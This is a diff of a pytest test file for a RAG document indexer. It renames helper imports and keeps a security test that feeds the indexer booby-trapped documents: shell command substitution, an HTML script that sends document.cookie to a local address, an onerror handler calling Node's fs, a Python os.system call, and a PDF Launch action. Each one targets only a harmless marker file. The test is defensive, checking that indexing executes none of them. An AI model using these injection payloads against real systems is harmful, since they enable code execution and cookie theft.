@@ -10,13 +10,13 @@ import time
 from pathlib import Path
 
 import pytest
-from _robust import _words, text_pdf
-from conftest import REPO
 
 from rag import RAG
-from rag.catalog import Catalog
 from rag.config import Settings
-from rag.layout import layout
+from rag.store.catalog import Catalog
+from rag.store.layout import layout
+from support.adversarial import text_pdf, words
+from support.paths import REPO
 
 
 def test_limits_are_settings_with_defaults() -> None:
@@ -29,8 +29,8 @@ def test_limits_are_settings_with_defaults() -> None:
 def test_max_pages_and_max_chunks_per_file_are_enforced(ollama, tmp_path: Path) -> None:
     docs = tmp_path / "docs"
     docs.mkdir()
-    text_pdf(docs / "book.pdf", [f"Page {n} marker{n}. " + _words(n, 40) for n in range(1, 7)])
-    (docs / "long.md").write_text("\n\n".join(f"# Part {i}\n\n" + _words(i, 120) for i in range(12)), encoding="utf-8")
+    text_pdf(docs / "book.pdf", [f"Page {n} marker{n}. " + words(n, 40) for n in range(1, 7)])
+    (docs / "long.md").write_text("\n\n".join(f"# Part {i}\n\n" + words(i, 120) for i in range(12)), encoding="utf-8")
     with RAG(tmp_path / "idx", embed_backend="ollama", max_pages=2, max_chunks_per_file=3, chunk_tokens=60,
              chunk_overlap=10) as rag:
         report = rag.index(docs)
@@ -99,14 +99,14 @@ def test_index_and_ask_write_only_inside_the_index_and_listen_on_nothing(ollama,
     for d in (docs, work, scratch):
         d.mkdir()
     marker = tmp_path / "pwned"
-    (docs / "notes.md").write_text(f"# Notes\n\n{_words(1)}\n\n$(touch {marker})\n\n`touch {marker}`\n",
+    (docs / "notes.md").write_text(f"# Notes\n\n{words(1)}\n\n$(touch {marker})\n\n`touch {marker}`\n",
                                    encoding="utf-8")
     (docs / "page.html").write_text(
         f"<html><head><script>fetch('http://127.0.0.1:1/'+document.cookie)</script></head><body><h1>Page</h1>"
-        f"<p>{_words(2)}</p><img src=x onerror=\"require('fs').writeFileSync('{marker}','x')\"></body></html>",
+        f"<p>{words(2)}</p><img src=x onerror=\"require('fs').writeFileSync('{marker}','x')\"></body></html>",
         encoding="utf-8")
-    (docs / "code.txt").write_text(f"__import__('os').system('touch {marker}')\n{_words(3)}", encoding="utf-8")
-    text_pdf(docs / "paper.pdf", [_words(4), f"/OpenAction << /S /Launch /F ({marker}) >> {_words(5)}"])
+    (docs / "code.txt").write_text(f"__import__('os').system('touch {marker}')\n{words(3)}", encoding="utf-8")
+    text_pdf(docs / "paper.pdf", [words(4), f"/OpenAction << /S /Launch /F ({marker}) >> {words(5)}"])
     (docs / "script.sh").write_text(f"#!/bin/sh\ntouch {marker}\n", encoding="utf-8")  # not a document type
     home = Path(os.environ["RAG_HOME"])
     before = _snapshot(docs, work, home, scratch)
